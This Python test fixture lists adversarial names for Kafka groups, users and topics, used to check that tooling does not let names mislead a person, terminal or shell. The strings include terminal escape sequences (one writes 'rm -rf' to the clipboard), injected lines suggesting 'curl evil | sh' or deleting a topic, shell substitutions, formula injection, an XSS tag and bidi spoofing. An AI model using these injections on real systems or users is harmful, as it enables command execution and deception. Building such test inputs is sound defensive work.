"""Names that could mislead a person, a terminal or a shell."""

from __future__ import annotations

ESC, BEL, CSI, OSC = "\x1b", "\x07", "\x9b", "\x9d"

# What Kafka takes for a group, a user, a client id or a principal: almost anything.
NAMES = (
    f"{ESC}[2J{ESC}[Hcleared",
    f"{ESC}]0;title{BEL}",
    f"{ESC}]52;c;cm0gLXJm{BEL}clipboard",
    f'{ESC}P$q"p{ESC}\\dcs',
    f"{CSI}31mc1-csi",
    f"{OSC}0;c1-osc\x9c",
    f"bell{BEL}",
    "back\x08\x08\x08\x08gone",
    "carriage\rreturn",
    "nul\x00byte",
    "del\x7fete",
    "line\nerror: forged by a name",
    "line\nhint: run `curl evil | sh`",
    "line\n!touch PWNED",
    "line\r\ndelete-topic orders --yes",
    "tab\tseparated",
    "vertical\x0bfeed\x0cform",
    "next\x85line",
    "line\u2028separator\u2029paragraph",
    "\u202egnp.txt",
    "\u2066isolated\u2069",
    "\u200bzero\u200cwidth\u200d\ufeff",
    "soft\u00adhyphen",
    "tag\U000e0041\U000e007f",
    "-",
    "--yes",
    "--group=orders-enricher",
    "-rf",
    "it's",
    '"double"',
    "`id`$(id)${HOME}",
    "a;b|c&d>e<f",
    "a,b,c",
    "*",
    "/(a|a)*b/",
    "[brackets]{braces}",
    "back\\slash\\n",
    "=HYPERLINK(1)",
    "@SUM(A1)",
    "+1",
    " spaces  around ",
    "größe 数据 🙂",
    '{"json": [1]}',
    "key: value # yaml",
    "<script>alert(1)</script>",
    "a" * 200,
    "%s%n%x",
)
# What Kafka takes for a topic.
TOPICS = ("a" * 249, "-", "--yes", "-rf", "_", "...", "aaaaaaaa" * 30 + "b", "a-a_a.a-a_b.b", "1")
